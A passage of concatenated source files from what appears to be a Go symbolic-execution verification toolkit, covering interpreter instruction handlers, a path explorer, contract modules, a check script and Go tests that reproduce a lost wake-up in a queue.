    if x is not None:
        if not isinstance(x, Iface):
            raise Inconclusive('type assert on %r' % (x,))
        if at.isiface():
            ok = implements(I, x, at)
        else:
            ok = (x.tid == at.id)
            if not ok and isinstance(x.v, Native):
                nt = getattr(x.v, 'gotype', None)
                ok = nt is not None and nt == at.str
    if at.isiface():
        val = x if ok else None
    else:
        val = copyval(x.v) if ok else I.zero(at)
    if commaok:
        return (val, ok)
    if not ok:
        raise GoPanic('type-assertion', 'interface conversion to %s failed (dynamic %s)' % (at.str, x and I.prog.types.get(x.tid)), ins.get('pos', ''))
    return val


def i_extract(I, fr, ins):
    t = I.ev(fr, ins['x'])
    if isinstance(t, Native) and t.kind == 'opaque':
        return t
    return t[ins['idx']]


def i_field(I, fr, ins):
    x = I.ev(fr, ins['x'])
    return copyval(x[ins['idx']])


def i_fieldaddr(I, fr, ins):
    x = I.ev(fr, ins['x'])
    if x is None:
        raise GoPanic('nil-deref', 'field address through nil pointer', ins.get('pos', ''))
    if not isinstance(x, Ptr):
        raise Inconclusive('fieldaddr of %r' % (x,))
    sv = x.c[x.i]
    if not isinstance(sv, SV):
        hook = getattr(I, 'native_field_hook', None)
        if hook is not None and isinstance(sv, Native):
            r = hook(I, x, ins['idx'])
            if r is not None:
                return r
        raise Inconclusive('fieldaddr into %r' % (sv,))
    return Ptr(sv, ins['idx'])


def check_index(I, idx, n, pos, idxtype=None):
    """bounds check; returns concrete index"""
    if isinstance(idx, int) and isinstance(n, int):
        if idx < 0 or idx >= n:
            raise GoPanic('index-out-of-range', '%d with length %d' % (idx, n), pos)
        return idx
    if is_intmode(idx) or is_intmode(n):
        ii = I.to_intmode(idx, 64, True)
        inb = z3.And(ii >= 0, ii < n)
    else:
        ii = tobv(idx, 64)
        nn = tobv(n, 64)
        inb = z3.And(ii >= 0, ii < nn)
    if not I.fork_bool(inb, 'bounds'):
        raise GoPanic('index-out-of-range', 'symbolic index', pos)
    return I.concretize(ii, 'index')


def i_index(I, fr, ins):
    x = I.ev(fr, ins['x'])
    y = I.ev(fr, ins['y'])
    xt = I.prog.types[ins['xt']]
    if xt.isstring():
        return str_index(I, x, y, ins)
    i = check_index(I, y, len(x), ins.get('pos', ''))
    return copyval(x[i])


def str_index(I, x, y, ins):
    if isinstance(x, str):
        i = check_index(I, y, len(x), ins.get('pos', ''))
        return ord(x[i])
    n = I.len_of(x)
    if isinstance(y, int) and isinstance(n, int):
        check_index(I, y, n, ins.get('pos', ''))
        return I.byte_at(x.t, y)
    yy = I.to_intmode(y, 64, True) if not isinstance(y, int) else y
    inb = zand(yy >= 0, yy < n)
    if not I.fork_bool(inb, 'strbounds'):
        raise GoPanic('index-out-of-range', 'string index', ins.get('pos', ''))
    return I.byte_at(x.t, yy)


def i_indexaddr(I, fr, ins):
    x = I.ev(fr, ins['x'])
    y = I.ev(fr, ins['y'])
    pos = ins.get('pos', '')
    if x is None:
        xt = I.prog.types[ins['xt']].under()
        if xt.kind == 'pointer':
            raise GoPanic('nil-deref', 'index through nil array pointer', pos)
        raise GoPanic('index-out-of-range', 'index of nil slice', pos)
    if isinstance(x, Ptr):
        arr = x.c[x.i]
        i = check_index(I, y, len(arr), pos)
        return Ptr(arr, i)
    if isinstance(x, SliceVal):
        i = check_index(I, y, x.len, pos)
        return Ptr(x.arr, x.off + i)
    if isinstance(x, TermBytes):
        n = I.len_of(x)
        # reading an element of opaque bytes: materialise a one-cell view
        if isinstance(y, int) and isinstance(n, int):
            check_index(I, y, n, pos)
            return Ptr([I.byte_at(x.t, y)], 0)
        yy = I.to_intmode(y, 64, True) if not isinstance(y, int) else y
        if not I.fork_bool(zand(yy >= 0, yy < n), 'bounds'):
            raise GoPanic('index-out-of-range', 'opaque bytes index', pos)
        return Ptr([I.byte_at(x.t, yy)], 0)
    raise Inconclusive('indexaddr of %r' % (x,))


def i_lookup(I, fr, ins):
    x = I.ev(fr, ins['x'])
    y = I.ev(fr, ins['y'])
    xt = I.prog.types[ins['xt']]
    if xt.isstring():
        return str_index(I, x, y, ins)
    vt = xt.under().elemt()
    if x is None:
        z = I.zero(vt)
        return (z, False) if ins['commaok'] else z
    if not isinstance(x, MapVal):
        raise Inconclusive('lookup in %r' % (x,))
    i = I.map_find(x, y)
    if i >= 0:
        v = copyval(x.items[i][1])
        return (v, True) if ins['commaok'] else v
    z = I.zero(vt)
    return (z, False) if ins['commaok'] else z


def i_mapupdate(I, fr, ins):
    m = I.ev(fr, ins['x'])
    k = I.ev(fr, ins['y'])
    v = I.ev(fr, ins['z'])
    if m is None:
        raise GoPanic('nil-map-write', 'assignment to entry in nil map', ins.get('pos', ''))
    i = I.map_find(m, k)
    if i >= 0:
        m.items[i][1] = copyval(v)
    else:
        m.items.append([copyval(k), copyval(v)])
    return None


def i_makemap(I, fr, ins):
    return MapVal(ins['t'])


def i_makeslice(I, fr, ins):
    t = I.prog.types[ins['t']].under()
    ln = I.ev(fr, ins['len'])
    cp = I.ev(fr, ins['cap'])
    pos = ins.get('pos', '')
    hook = I.contracts.get('hook.makeslice')
    if hook:
        hook(I, [ln, cp, t], ins)
    if not isinstance(ln, int):
        neg = (I.to_intmode(ln, 64, True) < 0) if is_intmode(ln) else (tobv(ln, 64) < 0)
        if I.fork_bool(neg, 'makeslice-neg'):
            raise GoPanic('makeslice', 'len out of range', pos)
        ln = I.concretize(ln, 'makeslice-len', maxn=I.cfg.get('max_len_split', 40))
    if not isinstance(cp, int):
        cp = I.concretize(cp, 'makeslice-cap', maxn=I.cfg.get('max_len_split', 40))
    if ln < 0 or cp < ln:
        raise GoPanic('makeslice', 'len out of range', pos)
    if cp > I.cfg.get('max_alloc', 1 << 16):
        raise Inconclusive('makeslice of %d elements' % cp)
    z = I.zero(t.elemt())
    if isinstance(z, (SV, AV)):
        arr = AV(copyval(z) for _ in range(cp))
    else:
        arr = AV([z] * cp)
    return SliceVal(arr, 0, ln, cp)


def i_slice(I, fr, ins):
    x = I.ev(fr, ins['x'])
    lo = I.ev(fr, ins['lo'])
    hi = I.ev(fr, ins['hi'])
    mx = I.ev(fr, ins['max'])
    xt = I.prog.types[ins['xt']].under()
    pos = ins.get('pos', '')

    def conc(v, what):
        if v is None or isinstance(v, int):
            return v
        return None

    if xt.kind == 'pointer':
        if x is None:
            raise GoPanic('nil-deref', 'slice of nil array pointer', pos)
        arr = x.c[x.i]
        base_off, ln, cp = 0, len(arr), len(arr)
    elif xt.kind == 'basic':  # string
        if isinstance(x, SymStr):
            return slice_term(I, x, lo, hi, pos, True)
        arr = None
        ln = cp = len(x)
    else:
        if isinstance(x, TermBytes):
            return slice_term(I, x, lo, hi, pos, False)
        if x is None:
            arr, base_off, ln, cp = None, 0, 0, 0
        else:
            arr, base_off, ln, cp = x.arr, x.off, x.len, x.cap
    lo_v = 0 if lo is None else lo
    hi_v = ln if hi is None else hi
    mx_v = cp if mx is None else mx
    if xt.kind == 'basic':
        limit = ln
    else:
        limit = cp
    if not (isinstance(lo_v, int) and isinstance(hi_v, int) and isinstance(mx_v, int)):
        # symbolic bounds: decide validity, then concretise
        def im(v):
            return I.to_intmode(v, 64, True) if not isinstance(v, int) else v
        if any(is_intmode(v) for v in (lo_v, hi_v, mx_v)):
            l, h, m = im(lo_v), im(hi_v), im(mx_v)
            ok = zand(0 <= l, l <= h, h <= m, m <= limit)
        else:
            l, h, m = tobv(lo_v, 64), tobv(hi_v, 64), tobv(mx_v, 64)
            ok = z3.And(l >= 0, l <= h, h <= m, m <= z3.BitVecVal(limit, 64))
        if not I.fork_bool(ok, 'slice-bounds'):
            raise GoPanic('slice-bounds', 'symbolic slice bounds out of range', pos)
        lo_v = I.concretize(l, 'slice-lo')
        hi_v = I.concretize(h, 'slice-hi')
        mx_v = I.concretize(m, 'slice-max')
    if not (0 <= lo_v <= hi_v <= mx_v <= limit):
        raise GoPanic('slice-bounds', '[%s:%s:%s] with capacity %s' % (lo_v, hi_v, mx_v, limit), pos)
    if xt.kind == 'basic':
        return x[lo_v:hi_v]
    if arr is None:
        return None
    return SliceVal(arr, base_off + lo_v, hi_v - lo_v, mx_v - lo_v)


def slice_term(I, x, lo, hi, pos, isstr):
    n = I.len_of(x)
    lo_v = 0 if lo is None else lo
    hi_v = n if hi is None else hi

    def im(v):
        if isinstance(v, int) or is_intmode(v):
            return v
        return z3.BV2Int(v, True)
    l, h = im(lo_v), im(hi_v)
    ok = zand(0 <= l, l <= h, h <= n)
    if not I.fork_bool(ok, 'slice-bounds'):
        raise GoPanic('slice-bounds', 'opaque bytes slice bounds out of range', pos)
    full = zand(l == 0, h == n)
    if simp_bool(full) is True or I.implied(full):
        return x
    lc = I.concretize(l, 'tslice-lo') if not isinstance(l, int) else l
    hc = I.concretize(h, 'tslice-hi') if not isinstance(h, int) else h
    for rule in getattr(I, 'term_slice_rules', []):
        rr = rule(I, x.t, lc, hc)
        if rr is not None:
            return SymStr(rr) if isstr else TermBytes(rr)
    b = T.concrete_bytes(x.t)
    if hc == lc:
        r = T.lit_bytes(b'')
    elif b is not None:
        r = T.lit_bytes(b[lc:hc])
    elif hc - lc <= 64:
        r = I.pack([I.byte_at(x.t, i) for i in range(lc, hc)]) if not (lc == 0 and False) else None
        # a prefix/suffix of an opaque term is represented structurally so that equal slices of equal terms are equal
        r = T.app('sub', x.t, T.lit_bytes(lc.to_bytes(8, 'big')), T.lit_bytes((hc - lc).to_bytes(8, 'big')))
        I.add(T.blen(r) == hc - lc)
    else:
        r = T.app('sub', x.t, T.lit_bytes(lc.to_bytes(8, 'big')), T.lit_bytes((hc - lc).to_bytes(8, 'big')))
        I.add(T.blen(r) == hc - lc)
    return SymStr(r) if isstr else TermBytes(r)


def i_slicetoarrayptr(I, fr, ins):
    x = I.ev(fr, ins['x'])
    t = I.prog.types[ins['t']].under().elemt().under()
    n = t.len
    if x is None:
        if n == 0:
            return None
        raise GoPanic('slice-to-array', 'nil slice', ins.get('pos', ''))
    if isinstance(x, SliceVal):
        if x.len < n:
            raise GoPanic('slice-to-array', 'length %d < %d' % (x.len, n), ins.get('pos', ''))
        if x.off == 0 and len(x.arr) == n:
            return Ptr([x.arr], 0)
        raise Inconclusive('slice to array pointer with offset')
    raise Inconclusive('slice to array pointer of %r' % (x,))


def i_store(I, fr, ins):
    p = I.ev(fr, ins['x'])
    v = I.ev(fr, ins['y'])
    if p is None:
        raise GoPanic('nil-deref', 'store through nil pointer', ins.get('pos', ''))
    if not isinstance(p, Ptr):
        raise Inconclusive('store through %r' % (p,))
    hook = getattr(I, 'shared_store_hook', None)
    if hook is not None and hook(I, p, v, ins):
        return None
    store_into(p.c, p.i, v)
    return None


def i_makeclosure(I, fr, ins):
    f = I.ev(fr, ins['fn'])
    return Closure(f.fn, [I.ev(fr, b) for b in ins['bindings']])


def i_range(I, fr, ins):
    x = I.ev(fr, ins['x'])
    xt = I.prog.types[ins['xt']]
    if xt.isstring():
        if not isinstance(x, str):
            raise Inconclusive('range over symbolic string')
        return StrIter(x)
    if x is None:
        return MapIter([])
    h = I.contracts.get('hook.maprange')
    items = list(x.items)
    if h:
        items = h(I, [x, items], ins)
    return MapIter(items)


def i_next(I, fr, ins):
    it = I.ev(fr, ins['x'])
    if isinstance(it, StrIter):
        if it.pos >= len(it.s):
            return (False, 0, 0)
        b = it.s.encode('latin-1')
        # decode one utf-8 rune
        for ln in (1, 2, 3, 4):
            try:
                ch = b[it.pos:it.pos + ln].decode('utf-8')
                if len(ch) == 1:
                    r = (True, it.pos, ord(ch))
                    it.pos += ln
                    return r
            except UnicodeDecodeError:
                continue
        r = (True, it.pos, 0xFFFD)
        it.pos += 1
        return r
    if it.pos >= len(it.items):
        return (False, None, None)
    k, v = it.items[it.pos]
    it.pos += 1
    return (True, copyval(k), copyval(v))


def i_makechan(I, fr, ins):
    n = I.ev(fr, ins['x'])
    h = I.contracts.get('chan.make')
    if h:
        return h(I, [n], ins)
    return Chan(n if isinstance(n, int) else 0, name=ins.get('pos', ''))


def i_send(I, fr, ins):
    ch = I.ev(fr, ins['x'])
    v = I.ev(fr, ins['y'])
    h = I.contracts.get('chan.send')
    if h:
        return h(I, [ch, v], ins)
    raise Inconclusive('channel send in sequential mode')


def i_select(I, fr, ins):
    h = I.contracts.get('chan.select')
    if h:
        states = [(s['dir'], I.ev(fr, s['chan']), I.ev(fr, s['send'])) for s in ins['states']]
        return h(I, [states, ins['blocking']], ins)
    raise Inconclusive('select in sequential mode')


DISPATCH = {
    'Alloc': i_alloc, 'BinOp': i_binop, 'UnOp': i_unop, 'Call': i_call, 'Defer': i_defer, 'RunDefers': i_rundefers,
    'Go': i_go, 'ChangeType': i_changetype, 'Convert': i_convert, 'ChangeInterface': i_changeinterface,
    'MakeInterface': i_makeinterface, 'TypeAssert': i_typeassert, 'Extract': i_extract, 'Field': i_field,
    'FieldAddr': i_fieldaddr, 'Index': i_index, 'IndexAddr': i_indexaddr, 'Lookup': i_lookup,
    'MapUpdate': i_mapupdate, 'MakeMap': i_makemap, 'MakeSlice': i_makeslice, 'Slice': i_slice,
    'SliceToArrayPointer': i_slicetoarrayptr, 'Store': i_store, 'MakeClosure': i_makeclosure, 'Range': i_range,
    'Next': i_next, 'MakeChan': i_makechan, 'Send': i_send, 'Select': i_select,
    'If': True, 'Jump': True, 'Return': True, 'Panic': True, 'Phi': True,
}
