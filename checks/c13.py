#!/usr/bin/env python3
"""C13: event listings honour since/until/reverse exactly (range logic + parameter rules)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import ipfslog, orbit, seqchan
import c03


import functools
from wesym import coop
from wesym.values import Native, Iface


def _untilnow_inst(pre, I):
    # the until_now RPC relay runs under the symbolic scheduler; the gRPC server stream is a recorder
    coop.install(I, preemptions=pre)

    def mk_stream(I, args, ins):
        return Iface(-90, Native('mdstream', ctx=args[0], sent=[], as_iface=True))

    def send(I, args, ins):
        sp = getattr(I, 'sync_point', None)
        if sp is not None:
            sp('stream.Send', ins)
        args[0].sent.append(args[1])
        return None
    I.intrinsics['verif_metadataListStream'] = mk_stream
    I.intrinsics['verif_streamSentCount'] = lambda I, a, ins: len(a[0].v.sent)
    I.intrinsics['verif_streamSentAt'] = lambda I, a, ins: a[0].v.sent[a[1] if isinstance(a[1], int) else I.concretize(a[1], 'sent-index')]
    I.methods[('mdstream', 'Send')] = send
    I.methods[('mdstream', 'Context')] = lambda I, a, ins: a[0].ctx


def main():
    t = tier()
    N = 4 if t == 'quick' else 7
    chk = c03.root_check('C13', ['C13/zz_verif_c13.go', 'C13/zz_verif_c13b.go', 'C08/zz_verif_c08.go'], extra_installers=[seqchan.install, orbit.install_relay],
                         extra_pkgs=[MOD + '/internal/queue', 'container/heap', 'container/list'])
    P = MOD + '.'
    chk.load([P + 'VerifC13Range', P + 'VerifC13Iterate', P + 'VerifC13Witness', P + 'VerifC13Params', P + 'VerifC13Source', P + 'VerifC13MsgSource', P + 'VerifC13UntilNow'])
    jobs = []
    for n in range(0, N + 1):
        jobs.append(Job(P + 'VerifC13Range', (n,)))
        jobs.append(Job(P + 'VerifC13Iterate', (n,)))
    jobs.append(Job(P + 'VerifC13Params', ()))
    for n in ((1, 2, 3) if t == 'quick' else (1, 2, 3, 4)):
        jobs.append(Job(P + 'VerifC13Source', (n,), cfg={'timeout_ms': 60000}))
    for n in ((1, 2) if t == 'quick' else (1, 2, 3)):
        jobs.append(Job(P + 'VerifC13MsgSource', (n,), cfg={'timeout_ms': 60000, 'dec_as_term': True}))
    for (n, pre) in ([(0, 1), (1, 2), (2, 1)] if t == 'quick' else [(0, 1), (1, 2), (2, 2), (3, 1)]):
        jobs.append(Job(P + 'VerifC13UntilNow', (n,), cfg={'timeout_ms': 60000, 'unwind': 12}, installers=[functools.partial(_untilnow_inst, pre)], max_paths=300000,
                        label='VerifC13UntilNow(%d)[pre<=%d]' % (n, pre)))
    jobs.append(Job(P + 'VerifC13Witness', (2,), witness=True))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Bounded symbolic execution (go/ssa of the current tree -> path-forking interpreter -> z3) of '
                       'getEntriesInRange, iterateOverEntries, checkParametersConsistency and MetadataStore.ListEvents (goroutine body run in place, channel = recorded output list) against reference functions. '
                       'Entry identifiers and the since/until identifiers are free opaque byte strings (pairwise distinct '
                       'entries); since/until range over nil, every entry id and an unknown id; reverse and the five '
                       'parameter flags are free. Every assertion is decided by the solver for all values on its path.',
           bounds={'entries_n': '0..%d' % N, 'ids': 'opaque byte strings of any length >= 1', 'order_source': 'MetadataStore.ListEvents on logs of 1..3 (4) events under every arrival order (log contract)', 'message_store': 'MessageStore.ListEvents on logs of 1..2 (3) messages of one sender whose key is known, every arrival order', 'until_now_rpc': 'GroupMetadataList with until_now on logs of 0..2 (3) events under the symbolic scheduler (handler, listing goroutine, forwarding goroutine), preemption bound 2', 'outside': 'lists longer than the bound; the GroupMetadataList/GroupMessageList RPC relay; OrbitDB replication itself'},
           assumptions=['log entries have pairwise distinct non-empty CIDs (content addressing)',
                        'cid.Cid.Bytes() is injective in the CID (contract)'],
           trusted=['go/ssa lowering (x/tools v0.50.0)', 'wesym interpreter', 'z3 5.1.0; final queries re-decided by cvc5 1.0 and z3 4.8.12'])


if __name__ == '__main__':
    main()
