package queue

import (
	"container/list"
	"context"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// hookCtx is a context whose Done() method runs a hook exactly once.
// In SimpleQueue.WaitForItem the expression ctx.Done() inside the select is evaluated
// AFTER q.mu.Unlock() and BEFORE the goroutine parks in the select, i.e. exactly in the
// suspected window. The hook lets ANOTHER goroutine run q.Add() to completion in that window.
type hookCtx struct {
	context.Context
	once sync.Once
	hook func()
}

func (c *hookCtx) Done() <-chan struct{} {
	c.once.Do(c.hook)
	return c.Context.Done()
}

func newQueueWithSignal(sig chan struct{}) *SimpleQueue[int] {
	// same as NewSimpleQueue, but lets us choose the signal channel capacity
	return &SimpleQueue[int]{name: "t", metrics: &noopTracer[int]{}, list: list.New(), signal: sig}
}

func runDeterministic(t *testing.T, q *SimpleQueue[int]) (gotAfterFirstAdd bool) {
	base, cancel := context.WithCancel(context.Background())
	defer cancel()

	ctx := &hookCtx{Context: base, hook: func() {
		// producer goroutine runs Add() completely while the consumer is between
		// q.mu.Unlock() and the select.
		done := make(chan struct{})
		go func() { q.Add(42); close(done) }()
		<-done
	}}

	res := make(chan int, 1)
	go func() {
		v, ok := q.WaitForItem(ctx)
		if ok {
			res <- v
		}
	}()

	select {
	case v := <-res:
		t.Logf("consumer returned %d after the first Add", v)
		return true
	case <-time.After(2 * time.Second):
	}

	q.mu.Lock()
	n := q.list.Len()
	q.mu.Unlock()
	t.Logf("consumer still parked 2s after Add() returned; queue length = %d", n)

	// a second Add wakes it and it then returns the FIRST item
	q.Add(43)
	select {
	case v := <-res:
		t.Logf("after a second Add the consumer woke up and returned %d", v)
	case <-time.After(2 * time.Second):
		t.Logf("consumer still parked even after second Add")
	}
	return false
}

func TestD2_Deterministic_RealQueue(t *testing.T) {
	q := NewSimpleQueue[int]("t", &noopTracer[int]{}) // real constructor: unbuffered signal
	t.Logf("cap(signal)=%d", cap(q.signal))
	if !runDeterministic(t, q) {
		t.Errorf("DEFECT: lost wake-up: item queued, Add returned, consumer stays parked in WaitForItem")
	}
}

func TestD2_Deterministic_Buffered1(t *testing.T) {
	q := newQueueWithSignal(make(chan struct{}, 1))
	t.Logf("cap(signal)=%d", cap(q.signal))
	if !runDeterministic(t, q) {
		t.Errorf("lost wake-up even with buffered(1) signal")
	}
}

// Pure stress test without any hook: one consumer, one producer, fresh queue per iteration.
func stress(t *testing.T, mk func() *SimpleQueue[int], iters int) (lost int) {
	for i := 0; i < iters; i++ {
		q := mk()
		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
		var start sync.WaitGroup
		start.Add(1)
		var okC atomic.Bool
		var wg sync.WaitGroup
		wg.Add(2)
		go func() {
			defer wg.Done()
			start.Wait()
			_, ok := q.WaitForItem(ctx)
			okC.Store(ok)
		}()
		go func() {
			defer wg.Done()
			start.Wait()
			for j := 0; j < i%64; j++ { // vary the relative timing a little
				runtime.Gosched()
			}
			q.Add(i)
		}()
		start.Done()
		wg.Wait()
		cancel()
		if !okC.Load() {
			lost++
		}
	}
	return lost
}

func TestD2_Stress_RealQueue(t *testing.T) {
	const iters = 200000
	lost := stress(t, func() *SimpleQueue[int] { return NewSimpleQueue[int]("t", &noopTracer[int]{}) }, iters)
	t.Logf("GOMAXPROCS=%d: unbuffered signal: %d/%d iterations: consumer timed out (100ms) although exactly one item had been added", runtime.GOMAXPROCS(0), lost, iters)
	if lost > 0 {
		t.Errorf("DEFECT: lost wake-ups observed: %d/%d", lost, iters)
	}
}

func TestD2_Stress_Buffered1(t *testing.T) {
	const iters = 200000
	lost := stress(t, func() *SimpleQueue[int] { return newQueueWithSignal(make(chan struct{}, 1)) }, iters)
	t.Logf("GOMAXPROCS=%d: buffered(1) signal: %d/%d iterations lost", runtime.GOMAXPROCS(0), lost, iters)
	if lost > 0 {
		t.Errorf("lost wake-ups with buffered(1): %d/%d", lost, iters)
	}
}
