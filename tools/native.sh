#!/bin/sh
# usage: tools/native.sh <repo-relative dir> <test file under findings/native_tests or absolute> <TestRegex>
# Runs a native Go test against /repo's current tree through a build overlay (nothing is written into /repo).
dir=$1; file=$2; re=$3
case "$file" in /*) real=$file;; *) real=/verif/findings/native_tests/$file;; esac
tmp=$(mktemp -d); base=$(basename "$real")
printf '{"Replace":{"/repo/%s/%s":"%s"}}' "$dir" "$base" "$real" > $tmp/ov.json
cd /repo && GOFLAGS=-mod=mod GOPROXY=off go test -vet=off -count=1 -overlay $tmp/ov.json -run "$re" -v -timeout 10m ./$dir/ 2>&1 | tail -${4:-25}
rm -rf $tmp
