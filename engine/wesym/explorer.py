"""Exploration of all paths of a harness entry, by decision-prefix re-execution."""
import time, traceback
import z3
from .values import GoPanic, PathEnd, Inconclusive
from .interp import Interp, Unwind


class HarnessResult:
    def __init__(self, name):
        self.name = name
        self.paths = 0
        self.completed = 0
        self.ended = 0  # abandoned by assume/infeasible
        self.unwind_failures = []
        self.inconclusive = []
        self.obligations = 0
        self.discharged = 0
        self.trivial = 0
        self.unknown = 0
        self.violations = []  # dicts: msg,pos,model,path,kind
        self.panics = []
        self.samples = []
        self.reached = {}  # label -> count (reachability witnesses)
        self.wall = 0.0
        self.notes = []
        self.smt2 = []  # (label, text) of final queries for cross-checking

    def ok(self):
        return not self.violations and not self.inconclusive and not self.unwind_failures and self.unknown == 0

    def summary(self):
        return ('%s: paths=%d completed=%d ended=%d obligations=%d discharged=%d (trivial %d) unknown=%d violations=%d '
                'inconclusive=%d unwind=%d %.1fs' % (self.name, self.paths, self.completed, self.ended, self.obligations,
                                                     self.discharged, self.trivial, self.unknown, len(self.violations),
                                                     len(self.inconclusive), len(self.unwind_failures), self.wall))


def explore(I, entry, args=(), max_paths=20000, expect_panic=None, on_path_end=None, time_budget=None,
            panic_is_violation=True, setup=None, shard=None):
    """Run every path of `entry`. A GoPanic that reaches the top is a violation unless expected.

    shard=(k, K): the path tree is split over K processes. Every process runs the same deterministic breadth-first
    phase until at least 6*K open prefixes exist (only shard 0 reports the paths of that phase), then explores the
    prefixes k, k+K, k+2K, ... of that frontier depth-first."""
    res = HarnessResult(entry)
    work = [[]]
    t0 = time.time()
    bfs = shard is not None and shard[1] > 1
    quiet = False
    while work:
        if bfs and len(work) >= 6 * shard[1]:
            bfs = False
            work = work[shard[0]::shard[1]]
            if not work:
                break
        quiet = bfs and shard[0] != 0
        if res.paths >= max_paths:
            res.inconclusive.append('path budget %d exhausted (%d prefixes left)' % (max_paths, len(work)))
            break
        if time_budget and time.time() - t0 > time_budget:
            res.inconclusive.append('time budget %.0fs exhausted (%d prefixes left)' % (time_budget, len(work)))
            break
        prefix = work.pop(0) if bfs else work.pop()
        I.new_path(prefix)
        if not quiet:
            res.paths += 1
        status = 'completed'
        try:
            a = list(args)
            if setup:
                a = setup(I)
            I.run_entry(entry, a)
            res.completed += 1
        except Unwind as u:
            res.unwind_failures.append(str(u))
            status = 'unwind'
        except PathEnd as e:
            res.ended += 1
            status = 'ended:' + str(e)
        except GoPanic as gp:
            status = 'panic:' + gp.kind
            if panic_is_violation and not (expect_panic and expect_panic(gp)):
                # a panic on a feasible path: path condition is satisfiable by construction (each decision was checked)
                r = I.check()
                if r == z3.sat:
                    m = I.path.solver.model()
                    v = {'msg': 'Go panic: %s %s' % (gp.kind, describe(gp.value)), 'pos': gp.pos, 'model': I.render_model(m),
                         'path': list(I.path.trace), 'kind': 'panic', 'gotrace': list(gp.gotrace[:12]), 'zmodel': m}
                    I.path.violations.append(v)
                    I.path.obligations.append({'msg': 'no panic', 'status': 'violated'})
                elif r == z3.unknown:
                    res.inconclusive.append('panic path feasibility unknown: %s' % gp)
            res.completed += 1
        except Inconclusive as e:
            res.inconclusive.append('%s [path %s] stack=%s' % (e, I.path.trace[:20], I.callstack[-4:]))
            status = 'inconclusive'
        except RecursionError:
            res.inconclusive.append('python recursion limit')
            status = 'inconclusive'
        p = I.path
        work.extend(p.alts)
        if quiet:
            # breadth-first phase of a shard other than 0: shard 0 reports these paths
            if status == 'completed':
                res.completed -= 1
            elif status.startswith('ended'):
                res.ended -= 1
            elif status == 'unwind':
                res.unwind_failures.pop()
            elif status == 'inconclusive':
                res.inconclusive.pop()
            elif status.startswith('panic'):
                res.completed -= 1
            continue
        if p.ghost.get('schedule') is not None:
            from .prog import REPO as _R
            sched = ['%s: %s %s' % (a, b, c.replace(_R + '/', '')) for (a, b, c) in p.ghost['schedule']]
            parked = ['%s stays at %s %s' % (a, b, c.replace(_R + '/', '')) for (a, b, c) in p.ghost.get('parked', [])]
            for v in p.violations:
                if isinstance(v.get('model'), dict):
                    v['model']['schedule'] = sched + parked
        for ob in p.obligations:
            res.obligations += 1
            if ob['status'] == 'discharged':
                res.discharged += 1
                if ob.get('trivial'):
                    res.trivial += 1
            elif ob['status'] == 'unknown':
                res.unknown += 1
            if ob.get('smt2') and len(res.smt2) < 400:
                res.smt2.append((ob['msg'], ob['status'], ob['smt2']))
        for v in p.violations:
            res.violations.append(v)
        if p.unknown_branches:
            res.notes.append('%d branch feasibility checks unknown on path %s' % (p.unknown_branches, p.trace[:12]))
        for n in p.notes:
            if len(res.notes) < 50:
                res.notes.append(n)
        for lab in p.ghost.get('reached', []):
            res.reached[lab] = res.reached.get(lab, 0) + 1
        if len(res.samples) < 3 and p.obligations:
            res.samples.append({'entry': entry, 'decisions': list(p.trace), 'status': status,
                                'path_condition_size': len(p.pc),
                                'obligations': [{'msg': o['msg'], 'status': o['status']} for o in p.obligations[:6]],
                                'pc_excerpt': [str(c)[:160] for c in p.pc[:4]]})
        if on_path_end:
            on_path_end(I, status, res)
    res.wall = time.time() - t0
    return res


def describe(v):
    try:
        from .values import Iface, Native
        if isinstance(v, Iface):
            return describe(v.v)
        if isinstance(v, Native):
            return '%s(%s)' % (v.kind, getattr(v, 'msg', getattr(v, 'name', getattr(v, 'value', ''))))
        return str(v)[:200]
    except Exception:
        return '?'
