"""Contracts for protobuf marshal/unmarshal of the C18 harness message, and allocation tracking."""
from ..values import *
from .base import mk_error


def install(I):
    def marshal(I, args, ins):
        m = args[0]
        if m is None:
            return (None, mk_error(I, 'proto: nil message'))
        t = I.prog.types.get(m.tid)
        if t is None or not t.str.endswith('verifMsg'):
            raise Inconclusive('proto.Marshal of %s' % (t.str if t else m.tid))
        sv = m.v.load()
        body = sv[0]
        if body is None:
            return (SliceVal(AV([]), 0, 0, 0), None)
        el = [x for x in body.elems()]
        return (SliceVal(AV(el), 0, len(el), len(el)), None)

    def unmarshal(I, args, ins):
        buf, m = args
        t = I.prog.types.get(m.tid)
        if t is None or not t.str.endswith('verifMsg'):
            raise Inconclusive('proto.Unmarshal into %s' % (t.str if t else m.tid))
        sv = m.v.load()
        el = list(buf.elems()) if buf is not None else []
        sv[0] = SliceVal(AV(el), 0, len(el), len(el))
        sv[1] = True
        return None

    I.contracts['google.golang.org/protobuf/proto.Marshal'] = marshal
    I.contracts['google.golang.org/protobuf/proto.Unmarshal'] = unmarshal

    def hook_makeslice(I, args, ins):
        ln, cp, t = args
        g = I.path.ghost
        if 'alloc_track' in g:
            g['alloc_track'].append(cp if cp is not None else ln)
        return None

    def reset_alloc(I, args, ins):
        I.path.ghost['alloc_track'] = []
        return None

    def max_alloc(I, args, ins):
        import z3
        from ..interp import tobv
        vals = I.path.ghost.get('alloc_track', [])
        r = 0
        for v in vals:
            if isinstance(v, int) and isinstance(r, int):
                r = max(r, v)
            else:
                a, b = tobv(v, 64), tobv(r, 64)
                r = z3.If(a > b, a, b)
        return r

    I.contracts['hook.makeslice'] = hook_makeslice
    I.intrinsics['verif_resetAlloc'] = reset_alloc
    I.intrinsics['verif_maxAlloc'] = max_alloc
