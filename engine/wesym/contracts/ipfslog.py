"""Contracts for go-ipfs-log entries / go-cid (DESIGN Appendix B)."""
import z3
from ..values import *
from .. import terms as T
from .base import gostr

CID = 'github.com/ipfs/go-cid.Cid'


def cid_value(I, term):
    t = I.prog.type_by_str(CID)
    return SV([SymStr(term)], t.id if t else 0)


def cid_term(I, c):
    s = c[0]
    return I.str_term(s)


def install(I):
    def any_entries(I, args, ins):
        n = args[0]
        n = I.concretize(n, 'entries-len') if not isinstance(n, int) else n
        ents = []
        ids = []
        for i in range(n):
            t = I.fresh_term('entry%d.id' % i, minlen=1)
            I.register_input('entry%d.id' % i, t)
            for o in ids:
                I.add(t != o)
            ids.append(t)
            ents.append(Iface(-10, Native('entry', t=t, idx=i, as_iface=True)))
        I.path.ghost['entries'] = ents
        return SliceVal(AV(ents), 0, n, n)

